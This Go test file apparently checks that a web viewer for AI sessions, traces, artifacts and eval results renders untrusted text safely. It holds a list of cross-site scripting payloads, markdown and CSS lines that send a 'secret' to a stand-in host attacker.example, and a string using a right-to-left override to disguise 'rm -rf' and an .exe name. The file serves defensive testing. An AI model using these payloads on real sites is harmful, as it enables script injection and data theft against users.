package browser

import (
	"net/url"
	"slices"
	"strings"
	"testing"
)

// hostile are texts that would run, or ask another host, if a page took them for more
// than text. S18: "Corpus: <img onerror>, [x](javascript:…), ![](http://attacker/?q=secret),
// mermaid/katex, SVG, RTL override".
var hostile = []string{
	`<img src=x onerror="window.__xss=1">`,
	`<script>window.__xss=1</script>`,
	`<svg onload="window.__xss=1"><script>window.__xss=1</script></svg>`,
	`"><iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
	`<a href="javascript:window.__xss=1">x</a><base href="http://attacker.example/">`,
	`[x](javascript:window.__xss=1) [y](JaVaScRiPt&colon;window.__xss=1) [z](data:text/html,<script>window.__xss=1</script>)`,
	`![secret](http://attacker.example/?q=secret) ![p](//attacker.example/p.png)`,
	`<style>@import "http://attacker.example/x.css"; * { background: url(http://attacker.example/y) }</style>`,
	`<link rel=stylesheet href=http://attacker.example/z.css><meta http-equiv=refresh content="0;url=http://attacker.example/">`,
	"```mermaid\ngraph TD; A[\"<img src=x onerror=window.__xss=1>\"]-->B\n```",
	`$$\href{javascript:window.__xss=1}{x}$$ {{constructor.constructor("window.__xss=1")()}}`,
	`<form action=http://attacker.example><button formaction=javascript:window.__xss=1>Go</button></form>`,
	`<http://attacker.example/auto> http://attacker.example/bare <math><mi xlink:href="javascript:window.__xss=1">x</mi></math>`,
	"<details open ontoggle=window.__xss=1><template><p id=main name=body>",
}

// turned has characters that would show a text as another one.
const turned = "rm -rf \u202egpj.exe\u2066 zero\u200bwidth"

// "The corpus cannot run a script": model text, reasoning, tool arguments, output and
// errors, titles, artifacts, log lines, approvals and eval results are texts on every view.
func TestCorpus_NothingRuns(t *testing.T) {
	t.Parallel()
	h := prepare(t, "testdata/mirror")
	h.start()
	var sessions []string
	all := strings.Join(hostile, "\n\n")
	for _, text := range []string{"tell " + all, "break " + all, "ask " + all, all} {
		id := h.talk(text)
		h.ask("PATCH", "/v1/session/"+id, map[string]any{"title": hostile[0] + turned})
		sessions = append(sessions, id)
	}
	b := newTab(t)
	for _, view := range []string{"chat", "trace", "raw"} {
		for i, id := range sessions {
			b.open(h.page(view + "/" + id))
			b.until(`document.querySelector("main").innerText.length > 60`)
			b.settle()
			if i == 0 && view == "chat" {
				b.press(`document.querySelector(".call .fold")`)
				b.sees(`"text": "<img src=x onerror`)
			}
			b.harmless(view)
		}
	}
	b.hostileArtifacts(h)
	b.hostileEvals(h)
	for _, view := range views(t, h) {
		b.open(h.page(view))
		b.until(`document.querySelector("main").innerText.length > 10`)
		b.settle()
		b.harmless(view)
	}
}

func (b *tab) hostileArtifacts(h *host) {
	b.t.Helper()
	all := h.ask("GET", "/v1/artifacts", nil)["artifacts"].([]any)
	if len(all) != 3 {
		b.t.Errorf("there are %d artifacts", len(all))
	}
	for _, a := range all {
		b.open(h.page("artifacts/" + a.(map[string]any)["id"].(string)))
		b.until(`document.querySelector("main h1, main h2")`)
		b.settle()
		b.harmless("an artifact")
	}
}

func (b *tab) hostileEvals(h *host) {
	b.t.Helper()
	run := h.ask("POST", "/v1/dev/evals/runs", map[string]any{})["run"].(map[string]any)["runId"].(string)
	b.open(h.page("evals/" + run))
	b.sees("<img src=x onerror")
	b.settle()
	b.harmless("evals/…")
	b.press(`[...document.querySelectorAll("main a, main [role=row], main [role=option], main button")].find((el) => el.innerText.includes("hostile"))`)
	b.settle()
	b.harmless("evals/… a case")
}

// harmless holds where no text of the corpus became more than text.
func (b *tab) harmless(view string) {
	b.t.Helper()
	if value[bool](b, `"__xss" in window`) {
		b.t.Errorf("%s: a script ran", view)
	}
	const made = `[...document.querySelectorAll("main script, main style, main iframe, main base, main meta, main link, main [onerror], main [onload], main [ontoggle], main form[action], main [formaction], main math")].map((el) => el.outerHTML.slice(0, 200))`
	for _, el := range value[[]string](b, made) {
		b.t.Errorf("%s: the page has %s", view, el)
	}
	for _, href := range value[[]string](b, `[...document.querySelectorAll("main a[href]")].filter((a) => !a.getAttribute("href").startsWith("#")).map((a) => a.href + " " + a.rel + " " + a.target)`) {
		u, err := url.Parse(strings.Fields(href)[0])
		if err != nil || !slices.Contains([]string{"http", "https", "mailto"}, u.Scheme) {
			b.t.Errorf("%s: the page links to %s", view, href)
		} else if !strings.HasPrefix(u.Host, "127.0.0.1") && !strings.Contains(href, "noopener noreferrer") {
			b.t.Errorf("%s: the link %s is not held apart from the page", view, href)
		}
	}
	if src := value[[]string](b, `[...document.querySelectorAll("main [src]")].map((el) => el.src).filter((s) => !s.startsWith("blob:"))`); len(src) > 0 {
		b.t.Errorf("%s: the page loads %q", view, src)
	}
}

// "Bidi/zero-width characters are made visible" where a person decides, and what turns
// the direction of a text is, everywhere.
func TestCorpus_HiddenCharactersAreSeen(t *testing.T) {
	t.Parallel()
	h := prepare(t, "testdata/mirror")
	h.start()
	id := h.talk("ask " + turned)
	h.ask("PATCH", "/v1/session/"+id, map[string]any{"title": turned})
	b := newTab(t)
	b.open(h.page("chat/" + id))
	b.until(`document.querySelector(".approval pre")?.innerText.includes("u{202e}") && document.querySelector(".approval pre").innerText.includes("u{200b}")`)
	for _, view := range []string{"chat/" + id, "trace/" + id, "raw/" + id, "chat", "trace"} {
		b.open(h.page(view))
		b.until(`document.querySelector("main").innerText.includes("gpj.exe") || document.querySelector("aside")?.innerText.includes("gpj.exe")`)
		b.settle()
		if value[bool](b, `/[\u202a-\u202e\u2066-\u2069]/.test(document.body.innerText)`) {
			b.t.Errorf("%s: a character turns the text around it", view)
		}
	}
}
